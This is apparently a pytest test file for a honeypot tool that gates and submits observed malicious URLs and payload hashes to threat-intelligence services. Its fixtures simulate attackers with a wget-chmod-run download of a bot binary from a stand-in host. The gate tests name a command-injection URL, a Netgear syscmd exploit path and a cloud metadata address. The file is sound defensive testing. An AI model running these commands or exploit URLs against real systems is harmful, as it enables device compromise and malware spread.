from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from pydantic import ValidationError
from sqlalchemy import select, update
from tests.intel.fakes import FakeHttp, http_server
from tests.pipeline.conftest import ELF, START, Bench

from urltrap.intel import errors
from urltrap.intel.loop import Background
from urltrap.intel.reputation import registry
from urltrap.intel.reputation.asked import Tools
from urltrap.intel.reputation.submitting import Parcel, Receipt, Submitter
from urltrap.model.intel_settings import IntelKeys
from urltrap.model.settings import Settings
from urltrap.model.submission import Submission
from urltrap.pipeline import submission_gate as gate
from urltrap.pipeline.evidence import gather
from urltrap.pipeline.submitting import ATTEMPTS, SubmitStage, wanted_by_operator
from urltrap.store import lookups, open_store, submissions, windows
from urltrap.store.queries import intel as queries
from urltrap.store.rows import url_key
from urltrap.store.schema import jobs, urls
from urltrap.store.schema_intel import names

KEY = "k3y-that-must-appear-nowhere"
URL = "http://evil.cc/bins/bot.mips"
MONTH = timedelta(days=30)
KEYS = {"urlscan": KEY, "virustotal": KEY, "abuse_ch": KEY}


class Scripted(Submitter):
    """Takes or refuses what the test says, the last again and again."""

    name = "scripted-submit"
    to = "scripted"
    kinds = frozenset({"url"})
    key = "urlscan"
    limits = {"minute": 60, "day": 100}
    tells = "nobody"

    def __init__(self, *script: Receipt | Exception) -> None:
        super().__init__("base")
        self.script = list(script)
        self.taken: list[Parcel] = []

    async def submit(self, tools: Tools, parcel: Parcel) -> Receipt:
        self.taken.append(parcel)
        step = self.script.pop(0) if len(self.script) > 1 else self.script[0]
        if isinstance(step, Exception):
            raise step
        return step


class Sharing(Scripted):
    name = "sharing-submit"
    to = "sharing"
    shares = "virustotal"


class Reporting(Scripted):
    name = "reporting-submit"
    to = "reporting"
    reports = True


RECEIPT = Receipt("scan-1", "https://scans.example/scan-1/", "private scan")


def settings(bench: Bench, **changes: object) -> None:
    """The bench's settings with intel online; `submit` and others replace sections."""
    submit = changes.pop("submit", {})
    bench.workshop.settings = Settings.model_validate(
        {"publish": {"delay_minutes": [0, 0]}, "testing": {"public_networks": ["198.51.100.0/24"]},
         "intel": {"online": True, "keys": KEYS, "submit": submit}, **changes}
    )  # fmt: skip
    bench.workshop.__post_init__()


def malicious(
    bench: Bench,
    url: str = URL,
    body: bytes = ELF,
    visitors: tuple[str, ...] = ("203.0.113.77", "192.0.2.200"),
    *,
    settle: bool = True,
) -> None:
    """Let attackers fetch and run it, until it is published. (In a `bench` URL is so already.)"""
    bench.fetcher.bodies[url] = body
    bench.workshop.settings = bench.settings  # nobody outside is asked meanwhile
    bench.workshop.__post_init__()
    for number, address in enumerate(visitors):
        name = f"x{number}".encode()
        session = bench.visit(
            b"wget " + url.encode() + b"; chmod 777 " + name + b"; ./" + name,
            asks=[(url.encode(), b"/tmp/" + name)], runs=[[b"chmod", b"777", name]], address=address,
        )  # fmt: skip
        bench.trap_fetches(url.encode(), session)
    if settle:
        bench.settle()


def row(bench: Bench, url: str = URL):  # type: ignore[no-untyped-def]
    with bench.store.connect() as connection:
        return connection.execute(select(urls).where(urls.c.key == url_key(url))).one()


def change(bench: Bench, url: str = URL, **values: object) -> None:
    with bench.store.begin() as connection:
        connection.execute(update(urls).where(urls.c.key == url_key(url)).values(**values))


def wanted(bench: Bench, service: Submitter, subject: str = URL, kind: str = "url") -> Submission:
    return wanted_by_operator(service, kind, subject, bench.time, bench.workshop.settings.intel.submit)  # type: ignore[arg-type]


def refused(bench: Bench, service: Submitter, subject: str = URL, kind: str = "url") -> str:
    with bench.store.begin() as connection:
        found = gate.refusal(bench.workshop, connection, service, wanted(bench, service, subject, kind))
    return found.why if found else ""


def ask(bench: Bench, service: Submitter, subject: str = URL, kind: str = "url") -> None:
    with bench.store.begin() as connection:
        submissions.ask(connection, service.name, wanted(bench, service, subject, kind), MONTH)


def turn(bench: Bench, stage: SubmitStage) -> None:
    bench.time += timedelta(seconds=2)
    stage.run(bench.workshop)
    for future in stage.waiting():
        future.exception(timeout=20)
    stage.run(bench.workshop)


def kept(bench: Bench, subject: str = URL, kind: str = "url") -> Submission:
    return submissions.of_subject(bench.store, kind, subject)[0]  # type: ignore[arg-type]


SETTINGS = {
    "testing": {"public_networks": ["198.51.100.0/24"]},
    "egress": {"siblings": 0, "other_clients": False},
}


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, datetime]:
    """A data folder in which URL is published, and when that was."""
    made = Bench(tmp_path_factory.mktemp("published") / "data", **SETTINGS)
    malicious(made)
    assert row(made).published_at is not None
    made.close()
    return made.folder, made.time


@pytest.fixture
def bench(published: tuple[Path, datetime], tmp_path: Path) -> Iterator[Bench]:
    folder, time = published
    made = Bench(Path(shutil.copytree(folder, tmp_path / "data")), **SETTINGS)
    made.time, made.visits = time, 10
    made.fetcher.bodies[URL] = ELF
    yield made
    made.close()


@pytest.fixture
def fresh(tmp_path: Path) -> Iterator[Bench]:
    """A data folder with nothing in it."""
    made = Bench(tmp_path / "fresh", **SETTINGS)
    yield made
    made.close()


@pytest.fixture
def stage_of(bench: Bench) -> Iterator[object]:
    made: list[SubmitStage] = []

    def make(*services: Submitter) -> SubmitStage:
        stage = SubmitStage(list(services))
        made.append(stage)
        return stage

    yield make
    for stage in made:
        stage.close()


# --- what is sent ---------------------------------------------------------------------------------------------------


def test_what_an_operator_asked_for_is_sent_once_and_its_receipt_kept(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Scripted(RECEIPT)
    stage = stage_of(service)
    turn(bench, stage)
    assert not service.taken, "nothing is sent that nobody asked for"
    ask(bench, service)
    assert kept(bench).state == "waiting"
    for _ in range(3):
        turn(bench, stage)
    (parcel,) = service.taken
    assert (parcel.kind, parcel.value, parcel.visibility) == ("url", URL, "private")
    assert "mips" in parcel.tags and "203.0.113.77" not in repr(parcel)
    done = kept(bench)
    assert (done.state, done.reference, done.link, done.asked_by) == (
        "submitted",
        "scan-1",
        RECEIPT.link,
        "operator",
    )
    assert done.at is not None and done.asked < done.at <= bench.time


def test_a_second_submission_is_refused_until_enough_days_have_gone_by(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Scripted(RECEIPT)
    stage = stage_of(service)
    ask(bench, service)
    with pytest.raises(submissions.TooEarly) as early:
        ask(bench, service)
    assert early.value.earlier.state == "waiting" and early.value.until is None
    turn(bench, stage)
    submitted = kept(bench).at
    assert submitted is not None
    with pytest.raises(submissions.TooEarly) as early:
        ask(bench, service)
    assert early.value.earlier.state == "submitted" and early.value.until == submitted + MONTH
    bench.time += MONTH
    ask(bench, service)
    turn(bench, stage)
    assert len(service.taken) == 2
    assert [item.state for item in submissions.of_subject(bench.store, "url", URL)] == [
        "submitted",
        "submitted",
    ]


def test_what_failed_or_was_refused_may_be_asked_for_again(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Scripted(errors.Unaskable("it does not scan this URL"), RECEIPT)
    stage = stage_of(service)
    ask(bench, service)
    turn(bench, stage)
    assert (kept(bench).state, kept(bench).detail) == ("refused", "it does not scan this URL")
    bench.time += timedelta(minutes=1)
    ask(bench, service)
    turn(bench, stage)
    assert kept(bench).state == "submitted"


def test_a_service_that_fails_is_tried_a_few_times_and_no_more(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Scripted(errors.Unavailable("no answer within 20 seconds"))
    stage = stage_of(service)
    ask(bench, service)
    for _ in range(ATTEMPTS + 3):
        turn(bench, stage)
        bench.time += timedelta(hours=6)
    assert len(service.taken) == ATTEMPTS
    assert (kept(bench).state, kept(bench).detail) == ("failed", "no answer within 20 seconds, 3 times")


def test_too_much_is_waited_out_and_a_refused_key_waits_for_another(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    until = bench.time + timedelta(hours=3)
    service = Scripted(errors.Limited("too many", until), errors.Refused("the key is not accepted"), RECEIPT)
    stage = stage_of(service)
    ask(bench, service)
    turn(bench, stage)
    turn(bench, stage)
    assert len(service.taken) == 1 and kept(bench).state == "waiting"
    (waiting,) = queries.waiting(bench.store, "url", URL, bench.time)
    assert (waiting.provider, waiting.not_before, waiting.error) == ("scripted-submit", until, "too many")
    bench.time = until
    turn(bench, stage)
    bench.time += timedelta(days=9)
    turn(bench, stage)
    assert len(service.taken) == 2 and kept(bench).state == "waiting"
    service.base = "another configuration"
    turn(bench, stage_of(service))
    assert kept(bench).state == "submitted"


def test_a_worker_that_dies_has_its_submission_sent_again_and_no_other(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Scripted(RECEIPT)
    turn(bench, stage_of(service))
    ask(bench, service)
    stage_of(service)._prepare(bench.workshop, bench.time)
    claimed = lookups.claim(bench.store, service.name, bench.time, "a worker that dies")
    assert isinstance(claimed, list)
    turn(bench, stage_of(service))
    assert not service.taken
    bench.time += lookups.LEASE
    turn(bench, stage_of(service))
    assert len(service.taken) == 1 and kept(bench).state == "submitted"


def test_a_submission_uses_up_the_key_s_quota_of_look_ups(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Sharing(RECEIPT)
    stage = stage_of(service)
    ask(bench, service)
    turn(bench, stage)
    with bench.store.begin() as connection:
        used = {window.span: window.used for window in windows.seen(connection, "virustotal", bench.time)}
        assert used["day"] == 1 and used["month"] == 1
        windows.learn(connection, "virustotal", "day", bench.time, most=1)
    bench.time += MONTH + timedelta(days=1)
    ask(bench, service)
    with bench.store.begin() as connection:
        windows.learn(connection, "virustotal", "day", bench.time, most=1, used=1)
    turn(bench, stage)
    assert len(service.taken) == 1
    waiting = lookups.claim(bench.store, service.name, bench.time, "test", shares="virustotal")
    assert isinstance(waiting, lookups.Wait) and waiting.why == "1 of 1 requests of this day are used"


def test_who_is_told_too_much_is_not_asked_meanwhile_with_the_same_key(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    until = bench.time + timedelta(hours=3)
    service = Sharing(errors.Limited("too many", until))
    ask(bench, service)
    turn(bench, stage_of(service))
    assert isinstance(found := lookups.claim(bench.store, "virustotal", bench.time, "w"), lookups.Wait)
    assert found.until == until


# --- when nothing is ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["offline", "record", "shut"])
def test_a_closed_door_keeps_submissions_in_and_loses_none(bench: Bench, stage_of, how: str) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Scripted(RECEIPT)
    ask(bench, service)
    if how == "offline":
        settings(bench, intel={"online": False})
    elif how == "record":
        settings(bench, egress={"mode": "record"})
    else:
        bench.workshop.shut = lambda: True
    assert gate.closed(bench.workshop)
    turn(bench, stage_of(service))
    assert not service.taken and kept(bench).state == "waiting"
    settings(bench)
    bench.workshop.shut = lambda: False
    turn(bench, stage_of(service))
    assert kept(bench).state == "submitted"


def test_what_no_longer_may_leave_is_not_sent_although_it_waits(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    service = Scripted(RECEIPT)
    ask(bench, service)
    change(bench, held=True)
    turn(bench, stage_of(service))
    assert not service.taken
    assert (kept(bench).state, kept(bench).detail) == (
        "refused",
        "it is kept back here: neither fetched nor published",
    )


# --- the gate -------------------------------------------------------------------------------------------------------


def test_a_malicious_url_that_is_published_may_be_submitted(bench: Bench) -> None:
    settings(bench)
    assert row(bench).published_at is not None
    assert refused(bench, Scripted(RECEIPT)) == refused(bench, Reporting(RECEIPT)) == ""


def test_what_a_url_tells_by_its_text_keeps_it_here(bench: Bench) -> None:
    told = {
        "http://198.51.100.9/a?cmd=;wget%20http://x/": "visiting it would be an attack itself: command injection",
        "http://evil.cc/setup.cgi?next_file=netgear.cfg&todo=syscmd": "visiting it would be an attack itself",
        "http://evil.cc/c?password=hunter2": "it carries a value called password, as credentials are",
        "http://evil.cc/u/joe@corp.cc/x": "it carries an e-mail address",
        "http://evil.cc:25/x": "port 25 belongs to another service than http",
        "ftp://evil.cc/x": "its scheme is ftp; services visit http and https only",
    }
    for url in told:
        malicious(bench, url, settle=False)
    bench.settle()
    settings(bench)
    for url, why in told.items():
        assert why in refused(bench, Scripted(RECEIPT), url)


def test_hosts_that_are_nobody_s_or_ours_are_never_told_of(bench: Bench) -> None:
    bench.workshop.own_addresses = frozenset(["192.0.2.10"])
    told = {
        "http://10.0.0.7/x": "private",
        "http://169.254.169.254/latest/meta-data/": "private",
        "http://your-server-ip/x": "placeholder",
        "http://evil.example/x": "placeholder",
        "http://192.0.2.10/x": "own-sensor",
    }
    for url in told:
        bench.visit(b"wget " + url.encode())
    bench.settle()
    settings(bench)
    for url, why in told.items():
        assert why in refused(bench, Scripted(RECEIPT), url)


def test_an_address_of_the_sensor_in_the_url_keeps_it_here(bench: Bench) -> None:
    url = "http://evil.cc/r/192.0.2.10/bot"
    malicious(bench, url)
    settings(bench)
    assert "an address or a name of ours" in refused(bench, Scripted(RECEIPT), url)


def test_a_url_that_was_shown_with_a_log_in_is_not_told(fresh: Bench) -> None:
    malicious(fresh, "http://root:toor@evil.cc/bins/bot.mips")
    settings(fresh)
    assert refused(fresh, Scripted(RECEIPT)) == "it was shown with a log-in before its host"


def test_the_operator_s_own_tests_and_hosts_are_not_told(bench: Bench) -> None:
    settings(
        bench, publish={"operator_addresses": ["203.0.113.0/24", "192.0.2.0/24"], "delay_minutes": [0, 0]}
    )
    assert "only your own addresses" in refused(bench, Scripted(RECEIPT))
    url = "http://198.51.100.5/x"
    malicious(bench, url)
    settings(bench, publish={"operator_addresses": ["198.51.100.5"], "delay_minutes": [0, 0]})
    assert "its host is one of your own addresses" in refused(bench, Scripted(RECEIPT), url)


def test_what_publication_withholds_is_not_submitted_either(fresh: Bench) -> None:
    malicious(fresh, visitors=("203.0.113.77", "203.0.113.78"))
    settings(fresh)
    assert "before 2 networks have shown it" in refused(fresh, Scripted(RECEIPT))
    malicious(fresh, visitors=("192.0.2.200",))
    settings(fresh, publish={"delay_minutes": [600, 600]})
    with fresh.store.begin() as connection:
        found = gate.refusal(fresh.workshop, connection, Scripted(RECEIPT), wanted(fresh, Scripted(RECEIPT)))
    assert found is not None and "withholds it until" in found.why
    assert found.until is not None and found.until > fresh.time + timedelta(hours=9)
    settings(fresh, publish={"delay_minutes": [0, 0], "min_confidence": 100})
    assert "its confidence is" in refused(fresh, Scripted(RECEIPT))


def test_a_host_of_the_allow_list_is_not_told_of(bench: Bench) -> None:
    settings(bench)
    with bench.store.begin() as connection:
        item = gather(bench.workshop, connection, [url_key(URL)])[url_key(URL)]
    allowed = replace(item, evidence=replace(item.evidence, allowed="evil.cc"))
    found = gate._of_what_it_is(bench.workshop, allowed)
    assert found is not None and found.why == "its host is on your allow-list"


def test_a_reverse_name_and_what_nobody_showed_are_not_told(bench: Bench) -> None:
    settings(bench)
    with bench.store.begin() as connection:
        connection.execute(
            names.insert().values(
                address="203.0.113.77",
                name="dsl-77.isp.cc",
                confirmed=True,
                domain="isp.cc",
                at=START,
                expires=START,
            )
        )
    assert "reverse name" in refused(bench, Scripted(RECEIPT), "http://dsl-77.isp.cc/")
    assert "no attacker has shown this URL" in refused(bench, Scripted(RECEIPT), "http://elsewhere.cc/x")


def test_what_was_not_fetched_here_is_not_burnt_by_others(fresh: Bench) -> None:
    fresh.visit(b"wget " + URL.encode())
    fresh.settle()
    settings(fresh)
    assert "it has not been fetched here yet" in refused(fresh, Scripted(RECEIPT))


def test_verdicts_that_do_not_qualify_are_named(bench: Bench) -> None:
    settings(bench)
    change(bench, verdict="suspicious")
    assert refused(bench, Scripted(RECEIPT)) == (
        "its verdict is suspicious; intel.submit.verdicts names malicious-confirmed, malicious-observed"
    )
    settings(bench, submit={"verdicts": ["suspicious"]})
    assert refused(bench, Scripted(RECEIPT)) == ""
    assert "published as malware" in refused(bench, Reporting(RECEIPT))
    change(bench, verdict="benign-context")
    assert "benign-context" in refused(bench, Scripted(RECEIPT))


def test_only_malware_with_a_path_is_reported(fresh: Bench) -> None:
    malicious(fresh, body=b"<html><body>hello there, this is a page</body></html>")
    settings(fresh)
    change(fresh, verdict="malicious-confirmed", confidence=99)
    assert refused(fresh, Scripted(RECEIPT)) == ""
    assert "no program, script or archive was fetched" in refused(fresh, Reporting(RECEIPT))
    url = "http://evil.cc/"
    malicious(fresh, url)
    settings(fresh)
    change(fresh, url, verdict="malicious-confirmed", confidence=99)
    assert "it has no path" in refused(fresh, Reporting(RECEIPT), url)


# --- payloads -------------------------------------------------------------------------------------------------------


def virustotal() -> Submitter:
    return next(service for service in registry.submitters() if service.to == "virustotal")


def test_payloads_that_a_url_served_are_submitted_and_others_are_not(bench: Bench) -> None:
    bench.visit(uploads=[ELF + b"uploaded"])
    bench.settle()
    settings(bench)
    served = row(bench).sha256
    assert refused(bench, virustotal(), served, "sha256") == ""
    assert "takes no payloads" in refused(bench, Scripted(RECEIPT), served, "sha256")
    uploaded = bench.quarantine.put(ELF + b"uploaded").sha256
    assert "no URL served it" in refused(bench, virustotal(), uploaded, "sha256")
    assert "no such payload" in refused(bench, virustotal(), "0" * 64, "sha256")
    change(bench, held=True)
    assert "it is kept back here" in refused(bench, virustotal(), served, "sha256")


def test_a_payload_with_the_sensor_s_address_in_it_stays_here(fresh: Bench) -> None:
    fresh.workshop.own_addresses = frozenset(["192.0.2.10", "127.0.0.1"])
    malicious(fresh, body=ELF + b"\0connect 192.0.2.10\0")
    settings(fresh)
    assert "an address of a sensor" in refused(fresh, virustotal(), row(fresh).sha256, "sha256")


# --- by itself ------------------------------------------------------------------------------------------------------


def test_nothing_is_submitted_by_itself_unless_it_is_asked_for(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    service = next(item for item in registry.submitters() if item.to == "urlscan")
    for submit in ({}, {"providers": ["urlscan"]}, {"automatic": True, "providers": ["virustotal"]}):
        settings(bench, submit=submit)
        turn(bench, stage_of(service))
    assert submissions.of_subject(bench.store, "url", URL) == []


def test_automatic_submissions_take_what_is_published_once_and_privately(
    bench: Bench, tmp_path: Path
) -> None:
    loop = Background()
    context = http_server()
    fake: FakeHttp = loop.submit(context.__aenter__()).result(20)
    try:
        fake.body = b'{"uuid": "0196d976-07f6-7aae-8a57-aa019145f31c"}'
        malicious(bench, "http://evil.cc/u/joe@corp.cc/x.mips")
        settings(bench, submit={"automatic": True, "providers": ["urlscan"]})
        service = next(item for item in registry.submitters() if item.to == "urlscan")
        service.base = fake.base
        stage = SubmitStage([service])
        for _ in range(3):
            turn(bench, stage)
            bench.time += timedelta(minutes=2)
        (asked,) = fake.asked
        assert json.loads(asked.body)["url"] == URL and json.loads(asked.body)["visibility"] == "private"
        assert (kept(bench).state, kept(bench).asked_by) == ("submitted", "automatic")
        other = kept(bench, "http://evil.cc/u/joe@corp.cc/x.mips")
        assert (other.state, other.detail) == ("refused", "it carries an e-mail address")
        stage.close()
        bench.store.flush()
        written = b"".join(path.read_bytes() for path in bench.folder.glob("urltrap.db*"))
        assert KEY.encode() not in written
    finally:
        loop.submit(context.__aexit__(None, None, None)).result(20)
        loop.close()


def test_what_a_second_network_shows_days_later_is_submitted_then(fresh: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    malicious(fresh, visitors=("203.0.113.77", "203.0.113.78"))
    assert row(fresh).published_at is not None, "for those with a log-in"
    service = Scripted(RECEIPT)
    service.to = "urlscan"  # type: ignore[misc]
    submit = {"automatic": True, "providers": ["urlscan"]}
    settings(fresh, submit=submit)
    turn(fresh, stage_of(service))
    fresh.time += timedelta(days=3)
    turn(fresh, stage_of(service))
    assert not service.taken and submissions.of_subject(fresh.store, "url", URL) == []
    malicious(fresh, visitors=("192.0.2.200",))
    settings(fresh, submit=submit)
    turn(fresh, stage_of(service))
    assert [parcel.value for parcel in service.taken] == [URL]


def test_automatic_submissions_to_nobody_are_a_mistake_and_without_a_key_are_complained_of(
    bench: Bench,
    stage_of,  # type: ignore[no-untyped-def]
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(ValidationError, match="providers names nobody"):
        settings(bench, submit={"automatic": True})
    settings(bench, submit={"automatic": True, "providers": ["urlhaus", "urlscan"]})
    unset = IntelKeys.model_validate({"urlscan": KEY})
    intel = bench.workshop.settings.intel.model_copy(update={"keys": unset})
    bench.workshop.settings = bench.workshop.settings.model_copy(update={"intel": intel})
    stage = stage_of(Scripted(RECEIPT))
    turn(bench, stage)
    turn(bench, stage)
    said = capsys.readouterr().out
    assert said.count("submit.unusable") == 1 and "intel.keys.abuse_ch" in said and KEY not in said


def test_only_verdicts_that_qualify_are_submitted_by_themselves(bench: Bench, stage_of) -> None:  # type: ignore[no-untyped-def]
    verdict = row(bench).verdict
    other = next(item for item in ("malicious-confirmed", "malicious-observed") if item != verdict)
    service = next(item for item in registry.submitters() if item.to == "urlscan")
    settings(bench, submit={"automatic": True, "providers": ["urlscan"], "verdicts": [other]})
    turn(bench, stage_of(service))
    assert submissions.of_subject(bench.store, "url", URL) == []


def test_a_store_that_is_made_anew_keeps_submissions_and_what_waits(
    bench: Bench, stage_of, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    settings(bench)
    done, waits = Scripted(RECEIPT), Reporting(RECEIPT)
    ask(bench, done)
    turn(bench, stage_of(done))
    ask(bench, waits)
    fresh = open_store(str(tmp_path / "fresh.db"))
    try:
        assert submissions.carry(bench.store, fresh, {"reporting": waits.name}, bench.time) == 2
        before = submissions.of_subject(bench.store, "url", URL)
        assert submissions.of_subject(fresh, "url", URL) == before
        claimed = lookups.claim(fresh, waits.name, bench.time, "w")
        assert isinstance(claimed, list) and claimed[0].question.subject == URL
    finally:
        fresh.close()


def test_submissions_hold_up_no_job_of_the_line(bench: Bench) -> None:
    """The stage has none: what is submitted waits in the queue of questions."""
    assert "submit" in [stage.name for stage in bench.line._stages]
    with bench.store.connect() as connection:
        assert "submit" not in set(connection.execute(select(jobs.c.stage)).scalars())
